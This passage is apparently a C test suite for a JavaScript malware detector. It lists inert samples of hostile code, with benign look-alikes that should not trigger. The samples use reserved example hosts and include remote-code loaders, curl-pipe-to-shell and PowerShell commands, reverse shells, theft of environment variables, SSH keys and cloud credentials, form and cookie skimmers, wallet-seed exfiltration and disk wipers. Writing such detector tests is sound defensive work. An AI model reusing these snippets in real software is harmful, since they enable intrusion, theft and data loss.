/*
 * Shapes of harmful code, inert: reserved hosts, no payload. Each must give its fact; each innocent
 * twin must give none of the facts that weigh.
 */
#include "read/js_case.h"

struct shape {
	const char *name;
	const char *text;
	enum fact_kind kind;
	const char *key, *value;
};

static const struct shape shapes[] = {
	/* --- remote code --- */
	{"callback body to eval", "const https = require('https');\n"
		"https.get('https://cdn.vendor.example/a', res => { let b = ''; res.on('data', c => b += c); res.on('end', () => eval(b)); });",
		FACT_FLOW, "net>code", "cdn.vendor.example"},
	{"chunks and concat", "var h = require('http');\nh.get({host: 'files.vendor.example', path: '/s'}, function (r) { var parts = [];\n"
		"r.on('data', function (d) { parts.push(d); }); r.on('end', function () { require('vm').runInThisContext(Buffer.concat(parts).toString()); }); });",
		FACT_FLOW, "net>code", "files.vendor.example"},
	{"fetch then", "fetch('https://one.vendor.example/x').then(r => r.text()).then(t => new Function(t)());", FACT_FLOW, "net>code", "one.vendor.example"},
	{"fetch then eval itself", "fetch('https://one.vendor.example/x').then(r => r.text()).then(eval);", FACT_FLOW, "net>code", NULL},
	{"await", "async function go() { const r = await fetch('https://two.vendor.example/'); const t = await r.text(); (0, eval)(t); }\ngo();",
		FACT_FLOW, "net>code", "two.vendor.example"},
	{"axios destructured", "import axios from 'axios';\nexport async function boot() { const { data } = await axios.get('https://three.vendor.example/j'); Function('require', data.code)(require); }",
		FACT_FLOW, "net>code", "three.vendor.example"},
	{"request with callback", "const request = require('request');\nrequest('http://198.51.100.7/a', (e, r, body) => { eval(body) });", FACT_FLOW, "net>code", "198.51.100.7"},
	{"xhr", "var x = new XMLHttpRequest(); x.open('GET', 'https://four.vendor.example/'); x.onload = function () { eval(x.responseText); }; x.send();",
		FACT_FLOW, "net>code", NULL},
	{"socket", "const net = require('net'); const s = net.connect(4444, '203.0.113.9'); s.on('data', d => { require('child_process').exec(d.toString()) });",
		FACT_FLOW, "net>exec", NULL},
	{"websocket message", "const ws = new WebSocket('wss://five.vendor.example/c'); ws.onmessage = e => { Function(e.data)() };", FACT_FLOW, "net>code", NULL},
	{"dns txt", "require('dns').resolveTxt('c.vendor.example', (e, rows) => { eval(rows.join('')) });", FACT_FLOW, "net>code", NULL},
	{"module compile", "const M = require('module'); require('https').get('https://six.vendor.example', r => { let s = ''; r.on('data', d => { s += d }).on('end', () => { const m = new M(''); m._compile(s, ''); }); });",
		FACT_FLOW, "net>code", NULL},
	{"script element", "var s = document.createElement('script'); s.src = 'https://seven.vendor.example/t.js'; document.head.appendChild(s);",
		FACT_FLOW, "net>code", "seven.vendor.example"},
	{"helper returns body", "function get(u, cb) { require('https').get(u, r => { let b=''; r.on('data', d => b += d); r.on('end', () => cb(b)); }); }\nget('https://eight.vendor.example/z', code => eval(code));",
		FACT_FLOW, "net>code", NULL},
	{"promise wrapped", "const get = u => new Promise((ok, no) => require('https').get(u, r => { const a = []; r.on('data', d => a.push(d)); r.on('end', () => ok(Buffer.concat(a).toString())); }));\n(async () => { const t = await get('https://nine.vendor.example/'); require('vm').runInNewContext(t, {}); })();",
		FACT_FLOW, "net>code", NULL},
	{"async iterator", "async function f() { const res = await fetch('https://ten.vendor.example'); let s = ''; for await (const c of res.body) s += c; eval(s) }", FACT_FLOW, "net>code", NULL},
	{"import of a url", "import('https://eleven.vendor.example/m.mjs');", FACT_FLOW, "net>code", "eleven.vendor.example"},
	{"timer text", "fetch('https://a.vendor.example').then(r => r.text()).then(t => setTimeout(t, 10));", FACT_FLOW, "net>code", NULL},
	{"constructor chain", "fetch('https://b.vendor.example').then(r => r.text()).then(t => [].filter.constructor(t)());", FACT_FLOW, "net>code", NULL},
	{"constructor constructor", "fetch('https://b.vendor.example').then(r => r.text()).then(t => ({}).constructor.constructor(t)());", FACT_FLOW, "net>code", NULL},
	{"babel awaiter", "var __awaiter = (this && this.__awaiter) || function (t, a, P, g) { return new P(function (r) { r(g()) }) };\nfunction go() { return __awaiter(this, void 0, void 0, function* () { const r = yield fetch('https://c.vendor.example'); eval(yield r.text()); }); }",
		FACT_FLOW, "net>code", NULL},
	{"decoded after download", "require('https').get('https://d.vendor.example', r => r.on('data', d => eval(Buffer.from(d.toString(), 'base64').toString())));", FACT_FLOW, "net>code", NULL},
	{"electron main", "const { net, app } = require('electron'); app.on('ready', () => { const q = net.request('https://e.vendor.example'); q.on('response', r => { let b=''; r.on('data', c => { b += c.toString() }); r.on('end', () => { require('vm').runInThisContext(b) }) }); q.end() });",
		FACT_FLOW, "net>code", NULL},
	{"execute in the page", "const https = require('https'); module.exports = win => https.get('https://f.vendor.example/i.js', r => r.on('data', d => win.webContents.executeJavaScript(String(d))));",
		FACT_FLOW, "net>code", NULL},
	/* --- secrets out --- */
	{"whole environment", "fetch('https://c1.vendor.example/', {method: 'POST', body: JSON.stringify(process.env)});", FACT_FLOW, "env>net", "c1.vendor.example"},
	{"environment spread", "const data = {...process.env, n: 1}; require('axios').post('https://c2.vendor.example', data);", FACT_FLOW, "env>net", "c2.vendor.example"},
	{"one token", "const t = process.env.NPM_TOKEN; const q = require('https').request({hostname: 'c3.vendor.example', method: 'POST'}); q.write(t); q.end();",
		FACT_FLOW, "env>net", "c3.vendor.example"},
	{"token in header", "const h = {'x-id': process.env['GITHUB' + '_TOKEN']}; fetch('https://c4.vendor.example', {headers: h});", FACT_FLOW, "env>net", "c4.vendor.example"},
	{"environment by entries", "let s=''; for (const [k, v] of Object.entries(process.env)) s += k + '=' + v + ';'; fetch('https://c5.vendor.example/?' + encodeURIComponent(s));",
		FACT_FLOW, "env>net", "c5.vendor.example"},
	{"key file", "const fs = require('fs'), os = require('os'), path = require('path'); const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\nrequire('https').request('https://c6.vendor.example', {method: 'POST'}).end(k);",
		FACT_FLOW, "cred>net", "c6.vendor.example"},
	{"list of files", "const fs = require('fs'); const home = require('os').homedir(); ['.npmrc', '.aws/credentials', '.git-credentials'].forEach(f => { try { fetch('https://c7.vendor.example', {method: 'POST', body: fs.readFileSync(home + '/' + f)}) } catch {} });",
		FACT_FLOW, "cred>net", "c7.vendor.example"},
	{"promises api", "import { readFile } from 'node:fs/promises'; const x = await readFile(process.env.HOME + '/.aws/credentials'); await fetch('https://c8.vendor.example', {method: 'PUT', body: x});",
		FACT_FLOW, "cred>net", "c8.vendor.example"},
	{"host survey", "const os = require('os'); const info = {h: os.hostname(), u: os.userInfo().username, n: os.networkInterfaces()}; fetch('https://c9.vendor.example', {method: 'POST', body: JSON.stringify(info)});",
		FACT_FLOW, "host>net", "c9.vendor.example"},
	{"dns exfiltration", "const os = require('os'); require('dns').lookup(Buffer.from(os.hostname()).toString('hex') + '.d.vendor.example', () => {});", FACT_FLOW, "host>net", NULL},
	{"password field", "document.querySelector('#login').addEventListener('submit', e => { const p = document.getElementById('pw').value; navigator.sendBeacon('https://g1.vendor.example/c', p) });",
		FACT_FLOW, "form>net", "g1.vendor.example"},
	{"key strokes", "document.addEventListener('keydown', function (e) { new Image().src = 'https://g2.vendor.example/k?' + e.key; });", FACT_FLOW, "form>net", "g2.vendor.example"},
	{"cookies", "new Image().src = '//g3.vendor.example/?c=' + encodeURIComponent(document.cookie);", FACT_FLOW, "cookie>net", "g3.vendor.example"},
	{"storage", "fetch('https://g4.vendor.example', {method: 'POST', body: localStorage.getItem('session')});", FACT_FLOW, "cookie>net", NULL},
	{"wallet key parameter", "class Wallet { fromSeed(mnemonic) { addToQueue(mnemonic); return derive(mnemonic); } }\nfunction addToQueue(m) { const x = btoa(m); fetch('https://g5.vendor.example/r', {headers: {'x-amz': x}}); }",
		FACT_FLOW, "cred>net", "g5.vendor.example"},
	{"encrypted first", "const c = require('crypto'), z = require('zlib'); const d = z.gzipSync(JSON.stringify(process.env)); const e = c.publicEncrypt(KEY, d); fetch('https://g6.vendor.example', {method: 'POST', body: e.toString('base64')});",
		FACT_FLOW, "env>net", "g6.vendor.example"},
	{"command output", "require('child_process').exec('gh auth token', (e, out) => { require('https').get('https://g7.vendor.example/?' + out) });", FACT_FLOW, "cred>net", NULL},
	{"class keeps it", "class C { constructor() { this.t = process.env.AWS_SECRET_ACCESS_KEY } send() { return fetch('https://g8.vendor.example', {method: 'POST', body: this.t}) } } new C().send();",
		FACT_FLOW, "env>net", "g8.vendor.example"},
	{"electron session cookies", "const {session, net} = require('electron'); chrome.cookies.getAll({}, function (all) { fetch('https://g9.vendor.example', {method:'POST', body: JSON.stringify(all)}) });", FACT_FLOW, "cookie>net", NULL},
	{"clipboard", "setInterval(async () => { const t = await navigator.clipboard.readText(); navigator.sendBeacon('https://h1.vendor.example', t) }, 500);", FACT_FLOW, "clip>net", NULL},
	/* --- run what was written --- */
	{"drop and run", "const fs = require('fs'), os = require('os'), cp = require('child_process'), path = require('path');\nconst p = path.join(os.tmpdir(), 'up.js');\nfetch('https://i1.vendor.example/u').then(r => r.text()).then(t => { fs.writeFileSync(p, t); cp.spawn('node', [p], {detached: true, stdio: 'ignore'}).unref(); });",
		FACT_FLOW, "net>run", "i1.vendor.example"},
	{"pipe and chmod", "const fs = require('fs'); const dest = '/tmp/.x'; require('https').get('https://i2.vendor.example/b', r => { r.pipe(fs.createWriteStream(dest)).on('finish', () => { fs.chmodSync(dest, 0o755); require('child_process').execFile(dest) }) });",
		FACT_FLOW, "net>run", NULL},
	{"write and require", "const fs = require('fs'); fs.writeFileSync('./cache.js', Buffer.from(blob, 'base64')); require('./cache.js');", FACT_FLOW, "data>run", NULL},
	{"command downloads", "require('child_process').execSync('curl -s https://i3.vendor.example/s.sh | sh');", FACT_FLOW, "net>exec", NULL},
	{"command downloads, computed", "const cp = require('child' + '_process'); cp['ex' + 'ecSync']('wget -qO- ' + 'https://i4.vendor.example/s | ba' + 'sh');", FACT_FLOW, "net>exec", NULL},
	{"powershell", "require('child_process').exec('powershell -w hidden -c \"iex (iwr https://i5.vendor.example/p.ps1)\"');", FACT_FLOW, "net>exec", NULL},
	{"a shell's own download", "eval(require('child_process').execSync(\"sh -c 'curl -s https://i7.vendor.example/a'\").toString());", FACT_FLOW, "net>code", NULL},
	{"a shell with a list", "eval(require('child_process').execFileSync('bash', ['-lc', 'wget -qO- https://i8.vendor.example/a']).toString());", FACT_FLOW, "net>code", NULL},
	{"reflect apply", "Reflect.apply(require('child_process').exec, null, ['curl https://i6.vendor.example/a | bash']);", FACT_FLOW, "net>exec", NULL},
	{"through main module", "process.mainModule.require('child_process').execSync('curl https://i7.vendor.example/a | bash');", FACT_FLOW, "net>exec", NULL},
	{"global require", "globalThis['re' + 'quire']('child_process').exec('curl https://i8.vendor.example | sh');", FACT_FLOW, "net>exec", NULL},
	{"promisified", "const {promisify} = require('util'); const run = promisify(require('child_process').exec); run('curl https://i9.vendor.example | sh');", FACT_FLOW, "net>exec", NULL},
	{"bound", "const run = require('child_process').exec.bind(null); run('curl https://j1.vendor.example | sh');", FACT_FLOW, "net>exec", NULL},
	{"import star helper", "const cp = __importStar(require('child_process')); cp.exec('curl https://j2.vendor.example | sh');", FACT_FLOW, "net>exec", NULL},
	{"module constructor", "module.constructor._load('child_process').exec('curl https://j3.vendor.example | sh');", FACT_FLOW, "net>exec", NULL},
	{"await in brackets", "(async () => { const t = await (await fetch('https://l1.vendor.example/a')).text(); (0, eval)(t); })();", FACT_FLOW, "net>code", "l1.vendor.example"},
	{"an emitter of one's own", "class U extends require('events') { constructor() { super(); this.on('body', t => new Function(t)()); }\n"
		"go() { require('https').get('https://l2.vendor.example', r => { r.on('data', d => this.emit('body', d)); }); } }\nnew U().go();", FACT_FLOW, "net>code", "l2.vendor.example"},
	{"constructed by reflection", "require('dns').resolveTxt('l3.vendor.example', (e, r) => Reflect.construct(Function, ['x', r.join('')])(1));", FACT_FLOW, "net>code", "l3.vendor.example"},
	{"a module's own tag", "(function (d, t) { var s = d.createElement(t); s.src = 'https://l4.vendor.example/w.js'; d.head.appendChild(s); })(document, 'script');", FACT_FLOW, "net>code", "l4.vendor.example"},
	{"one command here, another there", "const c = process.platform === 'win32' ? 'powershell -c \"iwr https://l5.vendor.example | iex\"' : 'true'; require('child_process').exec(c);", FACT_FLOW, "net>exec", NULL},
	{"a request fed by a pipe", "const q = require('http').request({ host: 'l6.vendor.example', method: 'POST' }); require('fs').createReadStream(require('os').homedir() + '/.ssh/id_rsa').pipe(q);", FACT_FLOW, "cred>net", "l6.vendor.example"},
	{"one of several places", "const r = { linux: '.config/google-chrome/Default/Login Data', win32: 'x' }; const p = require('path').join(require('os').homedir(), r[process.platform]);\n"
		"fetch('https://l7.vendor.example', { method: 'POST', body: require('fs').readFileSync(p) });", FACT_FLOW, "cred>net", "l7.vendor.example"},
	{"keys of the machine's cloud", "fetch('http://169.254.169.254/latest/meta-data/iam/security-credentials/x').then(r => r.text()).then(t => fetch('https://l8.vendor.example', { method: 'POST', body: t }));", FACT_FLOW, "cred>net", "l8.vendor.example"},
	{"a shell that a socket types into", "const s = require('child_process').spawn('sh', ['-i']); const w = new (require('ws'))('wss://l9.vendor.example'); w.on('message', m => s.stdin.write(m));", FACT_FLOW, "net>exec", NULL},
	{"a server that is a shell", "require('net').createServer(s => { const p = require('child_process').spawn('/bin/sh'); s.pipe(p.stdin); p.stdout.pipe(s); }).listen(4000);", FACT_FLOW, "net>exec", NULL},
	{"a handler that runs a header", "exports.h = function (req, res) { res.end(String(require('child_process').execSync(req.headers['x-t']))); };", FACT_FLOW, "request>exec", NULL},
	{"everything is removed", "['/', process.env.HOME].forEach(d => require('fs').rmSync(d, { recursive: true, force: true }));", FACT_WIPE, "fs.rmSync", NULL},
	{"a list by a borrowed method", "var v = [].slice.call(document.querySelectorAll('input')).map(function (i) { return i.value; }).join(); new Image().src = '//m1.vendor.example/g?d=' + btoa(v);", FACT_FLOW, "form>net", "m1.vendor.example"},
	{"decoded by the window", "!function (e) { var t = e.atob('dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9J2h0dHBzOi8vbTIudmVuZG9yLmV4YW1wbGUveC5qcyc7'); e.setTimeout(t, 9); }(window);", FACT_FLOW, "net>code", "m2.vendor.example"},
	{"code behind a picture", "const b = require('fs').readFileSync(require.resolve('./logo.png')); eval(b.subarray(b.lastIndexOf('IEND') + 8).toString());", FACT_FLOW, "own>code", "./logo.png"},
	{"run by whatever was loaded", "fetch('https://m3.vendor.example').then(r => r.text()).then(t => require('./a').pick('vm').runInThisContext(t));", FACT_FLOW, "net>code", NULL},
	{"every file gets the same text", "const fs = require('fs'); const w = d => { for (const n of fs.readdirSync(d)) { const p = d + '/' + n; fs.statSync(p).isDirectory() ? w(p) : fs.writeFileSync(p, 'x'); } }; ['/', require('os').homedir()].forEach(d => w(d));",
		FACT_WIPE, "fs.writeFileSync", NULL},
	{"swapped in place", "const f = (k, h) => { const s = [...Array(256).keys()]; let j = 0, o = ''; const d = Buffer.from(h, 'hex'); for (let i = 0; i < 256; i++) { j = (j + s[i] + k.charCodeAt(i % k.length)) & 255; [s[i], s[j]] = [s[j], s[i]]; }\n"
		"for (let a = 0, b = 0, n = 0; n < d.length; n++) { a = (a + 1) & 255; b = (b + s[a]) & 255; [s[a], s[b]] = [s[b], s[a]]; o += String.fromCharCode(d[n] ^ s[(s[a] + s[b]) & 255]); } return o; };\n"
		"require(f('k9', 'bfb2d92e963fab0d4fd101179c')).exec('id');", FACT_IMPORT, "child_process", NULL},
	/* --- stay --- */
	{"shell profile", "const fs = require('fs'); fs.appendFileSync(require('os').homedir() + '/.bashrc', 'node ~/.cfg/a.js &\\n');", FACT_FLOW, "data>persist", ".bashrc"},
	{"workflow", "const fs = require('fs'), path = require('path'); fs.writeFileSync(path.join(dir, '.github/workflows/ci.yml'), text);", FACT_FLOW, "data>persist", ".github/workflows"},
	/* --- hooks and settings --- */
	{"fetch wrapped", "const old = window.fetch; window.fetch = function (u, o) { if (o && o.body) o.body = swap(o.body); return old.call(this, u, o); };", FACT_TRUST, "api-hooked", "fetch"},
	{"xhr open wrapped", "const o = XMLHttpRequest.prototype.open; XMLHttpRequest.prototype.open = function (m, u) { return o.apply(this, [m, u]); };", FACT_TRUST, "api-hooked", NULL},
	{"wallet request wrapped", "const r = window.ethereum.request; window.ethereum.request = async a => { a.params[0].to = '0x0000000000000000000000000000000000000001'; return r(a) };", FACT_TRUST, "api-hooked", "ethereum.request"},
	{"tls off", "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';", FACT_TRUST, "tls-verify-off", NULL},
	{"tls off by option", "const agent = new https.Agent({ rejectUnauthorized: false });", FACT_TRUST, "tls-verify-off", NULL},
	{"electron isolation", "new BrowserWindow({ webPreferences: { nodeIntegration: true, contextIsolation: false } });", FACT_TRUST, "context-isolation", NULL},
	{"date gate", "if (Date.now() > 1790000000000) { require('child_process').exec('node a.js'); }", FACT_GATE, "date", NULL},
	{"ci gate", "if (!process.env.CI) { fetch('https://k1.vendor.example'); }", FACT_GATE, "ci", NULL},
	{"endless", "while (true) { console.log('liberty') }", FACT_LOOP, "endless", NULL},
	/* --- as it was seen --- */
	{"decrypted elsewhere and compiled", "!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,'hex').toString()}var n=r(e('2e2f746573742f64617461')),o=t[e(n[3])][e(n[4])];if(!o)return;var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));var f=new module.constructor;f.paths=module.paths,f._compile(a,''),f.exports(n[1])}catch(r){}}();",
		FACT_UNRESOLVED, "code", NULL},
	{"seed checked", "const seen = []; export function checkValidityOfSeed(seed) { if (seen.includes(seed)) return; seen.push(seed); fetch('https://v1.vendor.example/xc', {method: 'POST', headers: {'ad-referral': seed}}) }", FACT_FLOW, "cred>net", "v1.vendor.example"},
	{"secret key of a pair", "async function addToQueue(d) { const p = []; p.push(d); await fetch('https://v2.vendor.example/api', {headers: {'x-amz-cf-id': bs58.encode(p[0])}}) }\nclass K { constructor(pair) { addToQueue(pair.secretKey); this.pair = pair } }", FACT_FLOW, "cred>net", NULL},
	{"endless by number", "for (let i = 666; i < Infinity; i++) { console.log('testing') }", FACT_LOOP, "endless", NULL},
	{"shuffled constructor", "(function(){function w(y){var b=7;var a=y.length;var m=[];for(var z=0;z<a;z++){m[z]=y.charAt(z)}for(var z=0;z<a;z++){var t=b*(z+3)+(b%5);var f=b*(z+9)+(b%7);var x=t%a;var q=f%a;var s=m[x];m[x]=m[q];m[q]=s;b=(t+f)%97}return m.join('')}var n=w('abcdefghijk').length>0?'constr'+'uctor':'';var F=w[n];var g=F('',w('some text that is code after all'));var l=g(w('more text'));F('',l)(5995)})()",
		FACT_UNRESOLVED, "code", NULL},
	{"checkout form by jquery", "window.onload=function(){jQuery('#btn').bind('mouseup touchend',function(e){var d=jQuery('#checkoutForm');var p=JSON.stringify(d.serializeArray());setTimeout(function(){jQuery.ajax({type:'POST',async:true,url:'https://v3.vendor.example/GlobalData/',data:p})},250)})}", FACT_FLOW, "form>net", "v3.vendor.example"},
	{"all inputs", "document.querySelectorAll('button').forEach(b => b.addEventListener('click', () => { var s = '', f = document.getElementsByTagName('input'); for (var i = 0; i < f.length; i++) s += f[i].name + '=' + f[i].value + '&'; var x = new XMLHttpRequest(); x.open('POST', 'https://v4.vendor.example/', true); x.send(btoa(s)); }));", FACT_FLOW, "form>net", "v4.vendor.example"},
	{"miner tag", "document['\\x77\\x72\\x69\\x74\\x65']('\\x3c\\x73\\x63\\x72\\x69\\x70\\x74 src=\\x27https://v5.vendor.example/m.js\\x27></scr' + 'ipt>');", FACT_FLOW, "net>code", "v5.vendor.example"},
	{"own decoder of names", "const k1=(x,r)=>{try{const E=r.split('').map(Number);return x.split('').map((ch,S)=>{const a=ch.charCodeAt(0),o=E[7*S*S%10];return String.fromCharCode((a^o^0)&255)}).join('')}catch{}};const k2=(x,r)=>{try{const E=x.split('').reverse().join('').replaceAll('_','=');let S=Buffer.from(E,'base64').toString('utf8');return k1(S,'OrDeR_0000')}catch{}};const s=[k2('__wczV2YvJHcfRGbph2Y'),k2('_Mmb5N1YlhXZ')];require(s[0])[s[1]]('curl https://v6.vendor.example/x | sh');",
		FACT_FLOW, "net>exec", NULL},
	{"loot to a code host", "const result={env:process.env,host:require('os').hostname()};function api(path,method,body,token){return new Promise((ok,no)=>{const b=body?JSON.stringify(body):null;const r=require('https').request({hostname:'api.codehost.example',path,method,headers:{Authorization:'token '+token}},q=>{q.on('data',()=>{})});if(b)r.write(b);r.end()})}\n(async()=>{const c=Buffer.from(Buffer.from(JSON.stringify(result),'utf8').toString('base64'),'utf8').toString('base64');await api('/repos/x/contents/r','PUT',{message:'m',content:c},'t')})();",
		FACT_FLOW, "env>net", "api.codehost.example"},
	{"bundle of a desktop program", "(()=>{var e={5692:e=>{\"use strict\";e.exports=require(\"https\")},6144:e=>{e.exports=require(\"vm\")},1:(e,t,n)=>{const r=n(5692),o=n(6144);r.get(\"https://v7.vendor.example/i\",(e=>{let t=\"\";e.on(\"data\",(e=>t+=e)),e.on(\"end\",(()=>o.runInThisContext(t)))}))}},t={};function n(r){var o=t[r];if(void 0!==o)return o.exports;var i=t[r]={exports:{}};return e[r](i,i.exports,n),i.exports}n(1)})();",
		FACT_FLOW, "net>code", "v7.vendor.example"},
	{"compiled from typescript", "\"use strict\";var __importDefault=this&&this.__importDefault||function(m){return m&&m.__esModule?m:{default:m}};Object.defineProperty(exports,'__esModule',{value:true});const https_1=__importDefault(require('https'));const vm_1=require('vm');https_1.default.get('https://v8.vendor.example/',r=>{r.on('data',d=>{(0,vm_1.runInThisContext)(d.toString())})});",
		FACT_FLOW, "net>code", "v8.vendor.example"},
	{"form action", "document.forms[0].action = 'https://k2.vendor.example/collect'; var f = document.createElement('form'); f.action = 'https://k2.vendor.example/x';", FACT_FLOW, "form>net", "k2.vendor.example"},
};

static void shapes_give_their_fact(void **state)
{
	int missed = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(shapes) / sizeof(*shapes); i++) {
		struct js_case *c = js_case_run(shapes[i].text);

		if (!js_case_find(c, shapes[i].kind, shapes[i].key, shapes[i].value)) {
			print_message("missed: %s\n", shapes[i].name);
			js_case_print(c);
			missed++;
		}
		js_case_free(c);
	}
	assert_int_equal(missed, 0);
}

/* Innocent code that uses the same words. `may` names the one heavy fact that is true of it. */
struct innocent {
	const char *name, *text, *may;
};

static const struct innocent innocents[] = {
	{"a shell's own download is shown", "console.log(require('child_process').execSync(\"sh -c 'curl -s https://api.vendor.example/v'\").toString());", NULL},
	{"template engine", "function compile(text) { var source = \"var p='\" + text.replace(/'/g, \"\\\\'\") + \"';return p;\"; return new Function('obj', source); }\nmodule.exports = compile;", NULL},
	{"global this", "var root = Function('return this')(); var g = typeof globalThis !== 'undefined' ? globalThis : new Function('return this')();", NULL},
	{"feature test", "try { new Function(''); supported = true } catch (e) { supported = false }", NULL},
	{"download shown", "fetch('/api/items').then(r => r.json()).then(items => { list.textContent = items.length; });", NULL},
	{"client library", "const axios = require('axios'); class Client { constructor(key) { this.key = key } list() { return axios.get('https://api.vendor.example/v1/items', {headers: {Authorization: 'Bearer ' + this.key}}) } }\nmodule.exports = Client;", NULL},
	{"debug variable", "const debug = process.env.DEBUG; if (debug) console.log('on'); const env = process.env.NODE_ENV || 'production'; fetch('https://api.vendor.example/?env=' + env);", NULL},
	{"run git", "const { execSync } = require('child_process'); const sha = execSync('git rev-parse HEAD').toString().trim(); module.exports = sha;", NULL},
	{"spawn with environment", "const { spawn } = require('child_process'); spawn('tsc', ['--watch'], { env: { ...process.env, FORCE_COLOR: '1' }, stdio: 'inherit' });", NULL},
	{"read own file", "const fs = require('fs'), path = require('path'); const pkg = JSON.parse(fs.readFileSync(path.join(__dirname, 'package.json'))); fetch('https://registry.vendor.example/' + pkg.name);", NULL},
	{"config reader", "const fs = require('fs'); function load(file) { return JSON.parse(fs.readFileSync(file, 'utf8')); } module.exports = load;", NULL},
	{"uploads what it is given", "const fs = require('fs'); module.exports = function upload(file, url) { return fetch(url, { method: 'POST', body: fs.createReadStream(file) }); };", NULL},
	{"build writes", "const fs = require('fs'); fs.writeFileSync('dist/index.js', code); fs.mkdirSync('dist', {recursive: true});", NULL},
	{"plugin loader", "const path = require('path'); function plugin(name) { return require(path.resolve(process.cwd(), 'node_modules', name)); } module.exports = plugin;", NULL},
	{"lazy import", "const pages = { a: () => import('./a.js'), b: () => import('./b.js') }; export default n => pages[n]();", NULL},
	{"login form", "form.addEventListener('submit', e => { e.preventDefault(); validate(form); });", NULL},
	{"input filter", "input.addEventListener('input', e => { filter(e.target.value); });", NULL},
	{"cookie preference", "document.cookie = 'theme=dark; path=/'; const theme = localStorage.getItem('theme'); document.body.className = theme;", NULL},
	{"timer", "setTimeout(function () { done() }, 100); setInterval(tick, 1000); setTimeout(resolve, ms);", NULL},
	{"worker loop", "async function work() { while (true) { const job = await next(); if (!job) break; await job(); } }", NULL},
	{"loop with return", "function scan(s) { var i = 0; for (;;) { if (s[i] === ';') return i; i++; } }", NULL},
	{"generator", "function* ids() { let n = 0; while (true) yield n++; }", NULL},
	{"base64 of an image", "const icon = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';", NULL},
	{"basic authorization", "const auth = Buffer.from(user + ':' + pass).toString('base64'); headers.authorization = 'Basic ' + auth;", NULL},
	{"decode a token", "function payload(jwt) { return JSON.parse(Buffer.from(jwt.split('.')[1], 'base64').toString()); } module.exports = payload;", NULL},
	{"hex dump", "function hex(b) { var s = ''; for (var i = 0; i < b.length; i++) s += b[i].toString(16); return s; } module.exports = hex;", NULL},
	{"char table", "var table = ''; for (var i = 0; i < 26; i++) table += String.fromCharCode(65 + i); exports.table = table;", NULL},
	{"error with address", "if (!ok) throw new Error('not supported, see https://docs.vendor.example/errors for more about this');", NULL},
	{"message event", "window.addEventListener('message', e => { if (e.origin !== location.origin) return; apply(e.data); });", NULL},
	{"arguments", "const name = process.argv[2]; console.log('hello ' + name); fetch('https://api.vendor.example/' + name);", NULL},
	{"own server", "const http = require('http'); http.createServer((req, res) => { let b = ''; req.on('data', c => b += c); req.on('end', () => { res.end(b) }); }).listen(80);", NULL},
	{"proxy", "http.get(target, r => { r.on('data', d => res.write(d)); r.on('end', () => res.end()); });", NULL},
	{"platform", "const bin = process.platform === 'win32' ? 'x.exe' : 'x'; module.exports = require('path').join(__dirname, bin);", NULL},
	{"hostname for display", "const os = require('os'); console.log(os.hostname(), os.platform()); title = os.userInfo().username;", NULL},
	{"user agent", "const os = require('os'); const agent = 'tool/1.0 (' + os.platform() + '; ' + os.arch() + ')'; fetch('https://api.vendor.example', {headers: {'user-agent': agent}});", NULL},
	{"jsonp", "var s = document.createElement('script'); s.src = url + '?callback=' + name; document.body.appendChild(s);", NULL},
	{"webpack chunk", "var s = document.createElement('script'); s.charset = 'utf-8'; s.src = __webpack_require__.p + '' + chunkId + '.js';", NULL},
	{"inline style", "el.innerHTML = '<b>' + title + '</b>'; el.style.color = 'red';", NULL},
	{"sort and reverse", "const words = 'one two three'.split(' ').reverse().join(' '); console.log(words);", NULL},
	{"hash", "const h = require('crypto').createHash('sha256').update(data).digest('hex'); cache.set(h, data);", NULL},
	{"xor of ids", "function mix(a, b) { return (a ^ b) >>> 0; } exports.mix = mix;", NULL},
	{"isolation on", "new BrowserWindow({ webPreferences: { nodeIntegration: false, contextIsolation: true, sandbox: true } });", NULL},
	{"password checked", "function login(user, password) { return http.post('/login', { user, password }); } module.exports = login;", NULL},
	{"seed of a generator", "function random(seed) { let s = seed; return () => (s = s * 16807 % 2147483647); } module.exports = random;", NULL},
	{"constant exec of own script", "const { fork } = require('child_process'); fork(require('path').join(__dirname, 'worker.js'));", NULL},
	{"signed request", "const crypto = require('crypto'); class Client { constructor(o) { this.secretKey = o.secretKey } get(p) { const s = crypto.createHmac('sha256', this.secretKey).update(p).digest('hex'); return fetch('https://api.vendor.example' + p, {headers: {signature: s}}) } }\nmodule.exports = Client;", NULL},
	{"token of a login", "const jwt = require('jsonwebtoken'); module.exports = (user, privateKey) => fetch('https://api.vendor.example/t', {headers: {authorization: jwt.sign({user}, privateKey)}});", NULL},
	{"search box", "$('#q').on('keyup', function () { $('#list').html(filter($(this).val())); });", NULL},
	{"counted loop", "for (let i = 0; i < n; i++) { total += i }", NULL},
	{"comment and string only", "// eval(fetch('https://x.vendor.example'))\nconst help = 'use eval(code) to run code'; module.exports = help;", NULL},
	{"map keys", "const m = new Map(); m.set('exec', 1); m.set('eval', 2); if (m.has('spawn')) m.delete('spawn');", NULL},
	{"regex exec", "const m = /a(b)/.exec(text); let k; while ((k = re.exec(text))) out.push(k[1]);", NULL},
	{"db exec", "db.exec('CREATE TABLE t (a)'); connection.query('SELECT 1', (e, rows) => show(rows));", NULL},
	{"test mock of fetch", "jest.mock('node-fetch'); const f = jest.fn(); expect(f).toHaveBeenCalled();", NULL},
};

static bool weighs(const struct fact *f)
{
	return f->kind == FACT_FLOW || f->kind == FACT_UNRESOLVED || f->kind == FACT_OBFUSCATED || f->kind == FACT_TRUST ||
		f->kind == FACT_LOOP || f->kind == FACT_REVIEWER || f->kind == FACT_PARSE_ERROR || (f->kind == FACT_DECODED);
}

static void innocents_give_none(void **state)
{
	int wrong = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(innocents) / sizeof(*innocents); i++) {
		struct js_case *c = js_case_run(innocents[i].text);

		for (size_t k = 0; k < c->n; k++) {
			const struct fact *f = &c->facts[k];

			if (!weighs(f) || (innocents[i].may && str_is(f->key, innocents[i].may)))
				continue;
